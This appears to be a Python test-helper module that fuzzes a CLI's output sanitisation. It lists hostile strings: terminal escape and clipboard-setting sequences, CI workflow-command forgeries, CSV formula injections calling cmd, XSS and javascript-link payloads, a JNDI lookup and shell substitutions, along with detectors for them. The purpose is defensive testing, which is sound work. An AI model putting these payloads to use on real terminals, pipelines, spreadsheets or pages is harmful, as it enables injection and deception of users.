"""Texts that drive terminals, forge lines, run in spreadsheets or browsers, or fill screens."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator

from hypothesis import strategies as st

FORGED = "FORGED"
HOSTILE = (
    "\x1b[2J\x1b]0;FORGED\x07\x1b]52;c;RVZJTA==\x07",  # clears, titles, sets the clipboard
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\\x1bP$q\x1b\\\x1b_x\x1b\\",
    "\x9b2J\x9d52;c;RVZJTA==\x9c\x90\x85FORGED",  # the same in C1
    "x\u202eFORGED\u202c\u2066x\u2069\u200e\u200f\u061c",
    "x\r\nerror: FORGED\nFORGED\x0bFORGED\x0cFORGED\u2028FORGED\u2029FORGED",
    "\r\x1b[KFORGED\x08\x08\x7f\x00",
    "x\n::error file=x::FORGED\n::stop-commands::FORGED",
    "##[error]FORGED ##vso[task.setvariable variable=x]FORGED",
    "%0A::error::FORGED%0D",
    "=cmd|' /C calc'!A1",
    "+1+cmd|' /C calc'!A1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "a;=1+1",
    "＝1+1",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "](javascript:alert(1)) ![x](http://evil.example/x)\n# FORGED\n| a |",
    "]]></system-out><failure/>&\x00\x01\ufffe",
    "{{ 7*7 }}${jndi:ldap://x}$(id)`id`",
)
TOGETHER = tuple(" ".join(HOSTILE[first::5]) for first in range(5))
"""The same, several in one: for what has to be run for each."""
LONG = "\x1b[31mA" * 200_000
"""A megabyte, with escapes."""

DRIVING = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff]"
)
_COMMAND = re.compile(r"^\s*::|##(\[|vso\[)")
COLOR = re.compile(r"\x1b\[[0-9;]*m")
"""What pushctl itself sends to a terminal that takes colour."""

any_text = st.text(
    st.one_of(
        st.characters(),
        st.sampled_from("\x00\x07\x08\t\n\r\x0b\x0c\x1b\x7f\x85\x90\x9b\x9d\u061c\u200e\u200f"),
        st.sampled_from("\u2028\u2029\u202a\u202e\u2066\u2069\ud800\udfff=+-@;:#['\"<>&|%{}"),
    ),
    max_size=60,
)
hostile_text = st.one_of(any_text, st.sampled_from(HOSTILE), st.sampled_from(("::", "##[x]")))


def driving(shown: str, *, color: bool = False) -> list[str]:
    """Return the characters in *shown* that a terminal or a log would obey."""
    return DRIVING.findall(COLOR.sub("", shown) if color else shown)


def commands(shown: str) -> list[str]:
    """Return the lines of *shown* that GitHub Actions or Azure Pipelines would obey."""
    lines = shown.splitlines()
    return [
        line for line in lines if line.strip().startswith("::") or re.search(r"##(\[|vso\[)", line)
    ]


def forged(shown: str) -> list[str]:
    """Return the lines of *shown* that begin as only a forged one does."""
    return [line for line in shown.splitlines() if line.startswith((FORGED, f"error: {FORGED}"))]


def formulas(text: str) -> Iterator[str]:
    """Yield the cells of the csv *text* that a spreadsheet would run, whatever it separates by."""
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            for part in cell.split(";"):
                if part.lstrip().startswith(tuple("=+-@＝＋－＠")) and not _NUMBER.fullmatch(part):
                    yield part


_NUMBER = re.compile(r"-?\d+(\.\d+)?")
